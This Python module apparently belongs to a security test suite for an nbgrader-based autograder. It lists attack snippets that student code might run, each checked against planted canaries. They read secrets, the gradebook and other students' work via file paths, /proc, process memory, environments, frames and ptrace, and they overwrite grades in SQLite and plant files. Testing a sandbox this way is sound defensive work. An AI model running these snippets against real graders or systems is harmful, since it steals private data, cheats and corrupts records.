"""Looking for tests, references, the secret, the gradebook and other students' answers.

What is found is printed; the test searches all outputs for the canaries that stand in each place.
"""

from ..attack import Attack, everywhere

_FAMILY = "reading secrets"
_SEARCH = r"""
import re
_pattern = re.compile(rb"canary[a-z]+[0-9a-f]{24}")
def report(data):
    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    for found in set(_pattern.findall(data)):
        won(found.decode())
"""


def _attack(name: str, tries: str, cell: str, **more: object) -> Attack:
    return Attack(name, _FAMILY, tries, _SEARCH + cell, **more)  # type: ignore[arg-type]


_PLACES = """
import glob, os
course = "@COURSE@"
places = [f"{course}/.descent-secret", f"{course}/gradebook.db", f"{course}/nbgrader_config.py"]
places += [f"{course}/source/@UNIT@/@NAME@.ipynb",
           f"{course}/submitted/@NEIGHBOUR@/@UNIT@/@NAME@.ipynb",
           f"{course}/autograded/@NEIGHBOUR@/@UNIT@/@NAME@.ipynb",
           f"{course}/reports/.records/@UNIT@/@NEIGHBOUR@.json"]
"""

ATTACKS = [
    _attack(
        "read-course-files",
        "opens the secret, the gradebook, sources and neighbours by their real paths",
        _PLACES
        + """
for path in places:
    try:
        report(open(path, "rb").read())
        won(path)
    except OSError:
        pass
""",
    ),
    _attack(
        "read-through-proc",
        "the same through /proc: roots, working directories and descriptors of all processes",
        _PLACES
        + """
for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
    for where in ("root", "cwd", "map_files"):
        for path in (*places, "."):
            try:
                report(open(f"/proc/{pid}/{where}/{path.lstrip('/')}", "rb").read())
            except OSError:
                pass
    try:
        for link in os.listdir(f"/proc/{pid}/fd"):
            if pid != str(os.getpid()):
                report(open(f"/proc/{pid}/fd/{link}", "rb").read(10**6))
    except OSError:
        pass
""",
    ),
    _attack(
        "walk-the-disk",
        "reads every small file outside the system's own folders",
        """
import os, time
end = time.monotonic() + 2
for top in ("@COURSE@", "@REPOSITORY@", "/home", "/root", "/tmp", "/var/tmp", "/run", "/srv", ".."):
    for folder, _, names in os.walk(top):
        for name in names if time.monotonic() < end else ():
            path = os.path.join(folder, name)
            try:
                if os.path.getsize(path) < 10**6:
                    report(open(path, "rb").read())
            except OSError:
                pass
""",
    ),
    _attack(
        "environment",
        "reads its environment and that of all processes",
        """
import os
report(repr(os.environ))
for pid in os.listdir("/proc") if os.path.isdir("/proc") else ():
    for what in ("environ", "cmdline"):
        try:
            report(open(f"/proc/{pid}/{what}", "rb").read())
        except OSError:
            pass
""",
    ),
    _attack(
        "own-memory",
        "searches its own memory, inherited from the zygote, byte by byte",
        """
import re as re_
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and high - low < 1 << 28:
                try:
                    memory.seek(low)
                    report(memory.read(high - low))
                except (OSError, ValueError):
                    pass
except OSError:
    pass
""",
        answers={"squares": "def squares(k):\n    report(str(locals()))\n    return None"},
        costs="searching may take longer than a cell has",
    ),
    _attack(
        "garbage-collector",
        "searches all objects of the interpreter, again while a test calls",
        """
import gc
def search():
    for thing in gc.get_objects():
        if isinstance(thing, (dict, list, tuple)):
            for value in list(thing.values() if isinstance(thing, dict) else thing):
                if type(value) in (str, bytes):
                    report(value)
search()
""",
        answers={"squares": "def squares(k):\n    search()\n    return None"},
    ),
    _attack(
        "frames",
        "walks up its callers' frames while a test calls it",
        """
import sys, threading
def search():
    for frame in [sys._getframe(), *sys._current_frames().values()]:
        while frame is not None:
            for space in (frame.f_locals, frame.f_globals):
                for name, value in list(space.items()):
                    if type(value) in (str, bytes, tuple, list, dict):
                        report(repr(value)[:100000])
            report(repr(frame.f_code.co_consts))
            frame = frame.f_back
""",
        answers=everywhere("search()"),
    ),
    _attack(
        "history",
        "reads In, Out and the history database for the tests' sources",
        """
import glob, os
def search():
    shell = get_ipython()
    report(repr(shell.user_ns.get("In")) + repr(shell.user_ns.get("Out")))
    history = getattr(shell, "history_manager", None)
    if history is not None:
        report(repr([*history.get_range(raw=True), *history.get_tail(100)]))
    for path in glob.glob(os.path.expanduser("~/.ipython/**/*"), recursive=True):
        if os.path.isfile(path):
            report(open(path, "rb").read())
search()
""",
        answers=everywhere("search()"),
    ),
    _attack(
        "linecache",
        "reads the cached sources that tracebacks are made of",
        """
import linecache
def search():
    report(repr(linecache.cache))
    report(repr(getattr(get_ipython().compile, "_filename_map", "")))
""",
        answers=everywhere("search()"),
    ),
    _attack(
        "make-a-callback-fail",
        "makes the test's own callback fail and reads the error's text, notes and traceback",
        """
import traceback
def provoke(f):
    for junk in ("junk", None, [], 1j, object()):
        try:
            f(junk)
        except Exception as error:
            report("".join(traceback.format_exception(error)) + repr(error.args))
            report(repr(getattr(error, "__notes__", "")))
""",
        answers={"apply_twice": "def apply_twice(f, x):\n    provoke(f)\n    return f(f(x))"},
    ),
    _attack(
        "question-a-callback",
        "asks the grader for the inner attributes of the test's callback",
        """
def question(f):
    peer = object.__getattribute__(f, "_peer")
    names = ["__globals__", "__code__", "__closure__", "__defaults__", "__module__", "__self__",
             "__dict__", "__class__", "__doc__", "__wrapped__", "func_globals", "gi_frame", "mro"]
    for name in names:
        try:
            found = peer.ask("attribute", f, name)
            won(name)
            report(repr(found))
        except Exception as error:
            report(error)
""",
        answers={"apply_twice": "def apply_twice(f, x):\n    question(f)\n    return f(f(x))"},
    ),
    _attack(
        "question-the-grader",
        "asks the grader's side everything that the grader asks the student's",
        """
def question(f):
    peer = object.__getattribute__(f, "_peer")
    for asked in (("look", "check"), ("look", "half"), ("look", "np"), ("run", "1000", 1),
                  ("load", "import os", "x"), ("files", {"x": b""}), ("job",), ("reap",),
                  ("cell", 0, False, {"verdicts": [{"score": 9}]}), ("end", []),
                  ("next", f), ("assign", f, "x", 1), ("assign", f, "__code__", None)):
        try:
            found = peer.ask(*asked)
            won(asked[0])
            report(repr(found))
        except Exception as error:
            report(error)
""",
        answers={"apply_twice": "def apply_twice(f, x):\n    question(f)\n    return f(f(x))"},
    ),
    _attack(
        "guess-handles",
        "calls every number that might stand for one of the grader's objects",
        """
def guess(f):
    peer, kind = object.__getattribute__(f, "_peer"), type(f)
    for number in range(200):
        try:
            report(repr(kind(peer, number, 1, "guess")("x")))
        except Exception as error:
            report(error)
            if "channel" in str(error) or "ended" in str(error):
                break
""",
        answers={
            "softmax_loss": "def softmax_loss(W, X, y, reg):\n    return None",
            "forward_difference": "def forward_difference(f, x, h=1e-5):\n    guess(f)",
        },
    ),
    _attack(
        "import-the-reference",
        "imports solutions and grader by name and by path",
        """
import importlib, importlib.util, sys
sys.path[:0] = ["@REPOSITORY@/solutions", "@REPOSITORY@/autograder", "@REPOSITORY@/course"]
for name in ("descent_solutions", "descent_solutions.gradient_checks", "descent_autograder",
             "descent_autograder.questions.catalogue",
             "descent_autograder.questions.units.gradient_checks"):
    try:
        importlib.import_module(name)
        won(name)
    except ImportError:
        pass
path = "@REPOSITORY@/solutions/descent_solutions/gradient_checks.py"
try:
    spec = importlib.util.spec_from_file_location("reference", path)
    reference = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(reference)
    won(path)
except OSError:
    pass
softmax_loss = getattr(globals().get("reference"), "softmax_loss", None)
""",
    ),
    _attack(
        "installed-packages",
        "looks for traces of the grader beside the installed packages",
        """
import importlib.metadata as metadata, pathlib
for found in metadata.distributions():
    name = str(found.metadata["Name"])
    if "autograder" in name or "solutions" in name:
        won(name)
folder = pathlib.Path(np.__file__).parents[1]
for path in [*folder.glob("*.pth"), *folder.glob("*descent*/direct_url.json")]:
    try:
        if any(word in path.read_text() for word in ("autograder", "solutions")):
            won(path)
    except OSError:
        pass
""",
        not_stock="stock nbgrader runs where the packages are installed; it hides nothing",
    ),
    _attack(
        "pickle-a-callback",
        "pickles, copies and inspects the test's callback",
        """
import copy, inspect, pickle
def inspect_it(f):
    for look in (pickle.dumps, copy.deepcopy, inspect.getsource, inspect.signature, dir, repr):
        try:
            report(repr(look(f)))
        except Exception as error:
            report(error)
""",
        answers={"apply_twice": "def apply_twice(f, x):\n    inspect_it(f)\n    return f(f(x))"},
    ),
    _attack(
        "system-calls",
        "ptrace, process_vm_readv, kcmp, keyctl and open_by_handle_at on whatever there is",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for pid in range(1, 3000):
    if libc.ptrace(16, pid, 0, 0) == 0:
        won(f"ptrace {pid}")
for number, *args in ((310, 1, 0, 0, 0, 0, 0), (304, -100, 0, 0), (250, 0, -3, 1), (312, 1, 1, 0)):
    if libc.syscall(number, *args) > 0:
        won(f"system call {number}")
""",
    ),
    _attack(
        "gradebook-api",
        "opens the gradebook with nbgrader's and SQLite's own means, and writes grades",
        """
import sqlite3
try:
    from nbgrader.api import Gradebook
    with Gradebook("sqlite:///@COURSE@/gradebook.db") as book:
        report(str([(s.id, s.last_name) for s in book.students]))
        book.update_or_create_submission("@UNIT@", "gradebook-api")
        won("nbgrader's gradebook")
except BaseException:
    pass
try:
    with sqlite3.connect("file:@COURSE@/gradebook.db?mode=rw", uri=True, timeout=0.2) as book:
        report(str(book.execute("SELECT * FROM student").fetchall()))
        book.execute("UPDATE grade SET manual_score = 1000")
        won("SQLite")
except sqlite3.Error:
    pass
""",
    ),
    _attack(
        "write-the-course",
        "writes records, autograded notebooks, feedback and a submission for somebody else",
        """
import os
import pathlib
for path in pathlib.Path("@COURSE@").iterdir() if os.path.isdir("@COURSE@") else ():
    won(path)
for path in ("reports/.records/@UNIT@/write-the-course.json", "autograded/x/@UNIT@/@NAME@.ipynb",
             "feedback/x.html", "submitted/@NEIGHBOUR@/@UNIT@/@NAME@.ipynb", "source/@TOKEN@",
             "release/@UNIT@/@NAME@.ipynb", "nbgrader_config.py", ".descent-secret"):
    try:
        os.makedirs(os.path.dirname("@COURSE@/" + path), exist_ok=True)
        open("@COURSE@/" + path, "a").write("{}")
    except OSError:
        pass
""",
    ),
]
